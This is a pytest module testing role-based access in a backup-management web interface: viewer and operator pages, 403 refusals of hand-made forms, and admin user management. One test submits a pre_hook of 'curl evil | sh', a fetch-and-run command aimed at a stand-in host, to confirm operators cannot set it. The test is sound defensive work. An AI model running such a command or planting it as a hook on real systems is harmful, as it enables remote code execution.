"""Roles on the pages: what a viewer and an operator are shown, and that the
operations refuse what a role may not do even when the form is hand-made."""
import pytest

from api_support import create_api_token, create_schedule
from conftest import enroll_host
from web_support import assert_error_page, assert_form_refused, browser_for, create_login, doc, form_values, location_path
from web_support import admin_browser, api_admin, web_server  # noqa: F401 (module-scoped fixtures)


@pytest.fixture(scope="module")
def world(web_server, api_admin):
    host = enroll_host(api_admin, hostname="roles-host")
    schedule = create_schedule(api_admin, host.host_id, cron_expr="0 1 * * *", paths=["/etc"])
    hooked = create_schedule(api_admin, host.host_id, cron_expr="0 2 * * *", paths=["/var"],
                             pre_hook="echo admin-pre", post_hook="echo admin-post")
    return {"host": host.host_id, "schedule": schedule["id"], "hooked": hooked["id"],
            "reader": create_api_token(api_admin, "roles-reader")}


@pytest.fixture(scope="module")
def viewer(web_server, api_admin):
    return browser_for(web_server, *create_login(api_admin, "viewer"))


@pytest.fixture(scope="module")
def operator(web_server, api_admin):
    return browser_for(web_server, *create_login(api_admin, "operator"))


def state(world) -> dict:
    reader, host = world["reader"], world["host"]
    return {
        "jobs": [j["id"] for j in reader.get("/api/v1/jobs", params={"host_id": host, "limit": 500}).json()["items"]],
        "schedules": [(s["id"], s["cron_expr"], s["paths"], s["pre_hook"], s["post_hook"])
                      for s in reader.get(f"/api/v1/hosts/{host}/schedules").json()["items"]],
        "config": reader.get(f"/api/v1/hosts/{host}/config").json(),
        "host": reader.get(f"/api/v1/hosts/{host}").json()["name"],
        "users": len(reader.get("/api/v1/users").json()["items"]),
    }


def test_viewer_sees_no_edit_controls(viewer, world):
    page = viewer.page(f"/hosts/{world['host']}")
    assert page.find_all("tr", data_schedule_id=True), "the viewer sees the schedules"
    for hidden in ("config-form", "new-schedule", "rename-form", "delete-host-form", "maintenance-form", "init-repo"):
        assert page.by_id(hidden) is None, f"a viewer is shown #{hidden}"
    assert page.find_all("form", class_="run-now") == []
    nav = [a.get("href") for a in page.find("nav").find_all("a")]
    assert "/users" not in nav and "/audit" not in nav and "/enrollment" not in nav
    assert page.by_id("whoami").text.endswith("viewer")
    for path in ("/", "/jobs", "/tokens", f"/hosts/{world['host']}"):
        assert viewer.get(path).status_code == 200, path


@pytest.mark.parametrize("path", ["/users", "/audit", "/enrollment", "/hosts/{host}/schedules/new",
                                  "/schedules/{schedule}/edit"])
def test_viewer_gets_403_pages(viewer, world, path):
    response = viewer.get(path.format(**world))
    assert_error_page(response, 403, "viewer")
    assert "#config-form" not in response.text


@pytest.mark.parametrize("path,fields", [
    ("/hosts/{host}/jobs", {"kind": "backup", "paths": "/etc"}),
    ("/hosts/{host}/jobs", {"kind": "backup", "schedule_id": "{schedule}"}),
    ("/hosts/{host}/init", {}),
    ("/hosts/{host}/schedules", {"kind": "backup", "cron_expr": "0 5 * * *", "paths": "/home", "enabled": "on"}),
    ("/schedules/{schedule}", {"kind": "backup", "cron_expr": "0 6 * * *", "paths": "/srv", "enabled": "on"}),
    ("/schedules/{schedule}/delete", {}),
    ("/hosts/{host}/config", {"repo_url": "/srv/viewer-repo", "repo_password": "viewer-set-password"}),
    ("/hosts/{host}/rename", {"name": "viewer-renamed"}),
    ("/hosts/{host}/delete", {}),
    ("/users", {"username": "made-by-viewer", "password": "long-enough-password-1", "role": "admin"}),
    ("/enrollment", {"note": "by viewer"}),
])
def test_viewer_posts_are_refused_and_change_nothing(viewer, world, path, fields):
    before = state(world)
    fields = {name: value.format(**world) for name, value in fields.items()}
    response = viewer.submit(path.format(**world), fields)
    assert_error_page(response, 403)
    assert state(world) == before


def test_operator_sees_operator_controls_only(operator, world):
    page = operator.page(f"/hosts/{world['host']}")
    assert page.by_id("new-schedule") is not None
    assert page.find_all("form", class_="run-now"), "run-now forms"
    assert page.by_id("rename-form") is not None
    for hidden in ("config-form", "delete-host-form"):
        assert page.by_id(hidden) is None, f"an operator is shown #{hidden}"
    form = operator.page(f"/hosts/{world['host']}/schedules/new").by_id("schedule-form")
    assert form.find(name="pre_hook") is None and form.find(name="post_hook") is None
    for path in ("/users", "/audit", "/enrollment"):
        assert_error_page(operator.get(path), 403, "operator")


def test_operator_runs_now_from_the_schedule_row(operator, world):
    reader = world["reader"]
    page = operator.page(f"/hosts/{world['host']}")
    row = page.find("tr", data_schedule_id=world["schedule"])
    form = row.find("form", class_="run-now")
    assert form.get("action") == f"/hosts/{world['host']}/jobs"
    fields = form_values(form)
    assert fields["schedule_id"] == world["schedule"] and fields["kind"] == "backup"
    response = operator.post(form.get("action"), data=fields)
    assert response.status_code == 303, response.text
    job_id = location_path(response).removeprefix("/jobs/")
    job = reader.get(f"/api/v1/jobs/{job_id}").json()
    assert (job["host_id"], job["kind"], job["schedule_id"], job["status"]) == \
        (world["host"], "backup", world["schedule"], "queued")
    # The job page it lands on shows the job and the flash.
    page = operator.page(location_path(response))
    assert page.by_id("job-status").get("data-status") == "queued"
    assert "queued" in page.by_id("flash").text.lower()
    assert page.by_id("cancel-form") is not None


def test_operator_creates_a_schedule_but_not_hooks(operator, world):
    reader, host = world["reader"], world["host"]
    before = state(world)
    fields = form_values(operator.page(f"/hosts/{host}/schedules/new").by_id("schedule-form"))
    fields.update(cron_expr="15 4 * * *", paths="/opt\n/srv", tags="op")
    # A hand-made pre_hook is refused, whatever the form looked like.
    response = operator.post(f"/hosts/{host}/schedules", data=dict(fields, pre_hook="curl evil | sh"))
    assert_form_refused(response, 403, "schedule-form", "pre_hook", "admin")
    # What the operator typed is still in the form.
    assert form_values(doc(response).by_id("schedule-form"))["paths"] == "/opt\n/srv"
    response = operator.post(f"/hosts/{host}/schedules", data=dict(fields, post_hook="id"))
    assert_form_refused(response, 403, "schedule-form", "post_hook")
    assert state(world) == before
    response = operator.post(f"/hosts/{host}/schedules", data=fields)
    assert response.status_code == 303, response.text
    assert location_path(response) == f"/hosts/{host}#schedules"
    created = [s for s in reader.get(f"/api/v1/hosts/{host}/schedules").json()["items"] if s["tags"] == ["op"]]
    assert len(created) == 1
    assert created[0]["paths"] == ["/opt", "/srv"] and created[0]["pre_hook"] == ""


def test_operator_edit_keeps_the_admins_hooks(operator, world):
    reader = world["reader"]
    fields = form_values(operator.page(f"/schedules/{world['hooked']}/edit").by_id("schedule-form"))
    assert "pre_hook" not in fields
    fields["cron_expr"] = "45 2 * * *"
    response = operator.post(f"/schedules/{world['hooked']}", data=fields)
    assert response.status_code == 303, response.text
    schedule = reader.get(f"/api/v1/schedules/{world['hooked']}").json()
    assert schedule["cron_expr"] == "45 2 * * *"
    assert (schedule["pre_hook"], schedule["post_hook"]) == ("echo admin-pre", "echo admin-post")
    # Changing them by hand is refused.
    response = operator.post(f"/schedules/{world['hooked']}", data=dict(fields, pre_hook="echo operator"))
    assert_form_refused(response, 403, "schedule-form", "pre_hook")
    assert reader.get(f"/api/v1/schedules/{world['hooked']}").json()["pre_hook"] == "echo admin-pre"


def test_operator_edit_keeps_the_admins_extra_args(operator, world, api_admin):
    """extra_args is admin-only like hooks: an operator may keep it, not change it."""
    reader, host = world["reader"], world["host"]
    schedule = create_schedule(api_admin, host, cron_expr="0 5 * * *", paths=["/home"],
                               options={"extra_args": ["--verbose"], "one_file_system": True})
    fields = form_values(operator.page(f"/schedules/{schedule['id']}/edit").by_id("schedule-form"))
    fields["cron_expr"] = "30 5 * * *"
    response = operator.post(f"/schedules/{schedule['id']}", data=fields)
    assert response.status_code == 303, response.text
    stored = reader.get(f"/api/v1/schedules/{schedule['id']}").json()
    assert stored["cron_expr"] == "30 5 * * *" and stored["options"]["extra_args"] == ["--verbose"]
    changed = dict(fields, cron_expr="0 6 * * *",
                   options='{"extra_args": ["--exclude-larger-than", "1G"], "one_file_system": true}')
    response = operator.post(f"/schedules/{schedule['id']}", data=changed)
    assert_form_refused(response, 403, "schedule-form", "extra_args")
    assert form_values(doc(response).by_id("schedule-form"))["cron_expr"] == "0 6 * * *"
    stored = reader.get(f"/api/v1/schedules/{schedule['id']}").json()
    assert stored["cron_expr"] == "30 5 * * *" and stored["options"]["extra_args"] == ["--verbose"]


@pytest.mark.parametrize("path,fields", [
    ("/hosts/{host}/config", {"repo_url": "/srv/operator-repo"}),
    ("/hosts/{host}/config", {"clear_repo_password": "on"}),
    ("/hosts/{host}/delete", {}),
    ("/users", {"username": "made-by-operator", "password": "long-enough-password-1", "role": "admin"}),
    ("/enrollment", {"note": "by operator"}),
])
def test_operator_admin_posts_are_refused(operator, world, path, fields):
    before = state(world)
    response = operator.submit(path.format(**world), fields)
    assert_error_page(response, 403, "admin")
    assert state(world) == before


def test_admin_manages_users_through_the_forms(web_server, admin_browser, api_admin):
    form = admin_browser.page("/users").by_id("user-form")
    values = form_values(form)
    assert values["role"] == "viewer"
    password = web_server.remember_secret("form-made-password-1")
    values.update(username="form-made", password=password, role="operator")
    response = admin_browser.post(form.get("action"), data=values)
    assert response.status_code == 303 and location_path(response) == "/users"
    user = next(u for u in api_admin.get("/api/v1/users").json()["items"] if u["username"] == "form-made")
    assert user["role"] == "operator" and user["disabled"] is False
    page = admin_browser.page("/users")
    assert "form-made" in page.by_id("flash").text
    row = page.find("tr", data_user_id=user["id"])
    change = row.find("form", action=f"/users/{user['id']}")
    fields = form_values(change)
    assert fields["role"] == "operator" and "disabled" not in fields and fields["password"] == ""
    fields.update(role="viewer", disabled="on")
    assert admin_browser.post(change.get("action"), data=fields).status_code == 303
    user = next(u for u in api_admin.get("/api/v1/users").json()["items"] if u["id"] == user["id"])
    assert user["role"] == "viewer" and user["disabled"] is True
    # A weak password is refused, naming the field; the admin's own row has no delete form.
    response = admin_browser.submit("/users", {"username": "weak-one", "password": "short", "role": "operator"})
    assert_form_refused(response, 400, "user-form", "password")
    # The form comes back with the name and role typed, never the password.
    typed = form_values(doc(response).by_id("user-form"))
    assert (typed["username"], typed["role"], typed["password"]) == ("weak-one", "operator", "")
    me = admin_browser.get("/api/v1/auth/me").json()["user"]["id"]
    assert admin_browser.page("/users").find("tr", data_user_id=me).find("form", action=f"/users/{me}/delete") is None
    delete = admin_browser.page("/users").find("tr", data_user_id=user["id"]).find(
        "form", action=f"/users/{user['id']}/delete")
    assert admin_browser.post(delete.get("action"), data=form_values(delete)).status_code == 303
    assert all(u["id"] != user["id"] for u in api_admin.get("/api/v1/users").json()["items"])
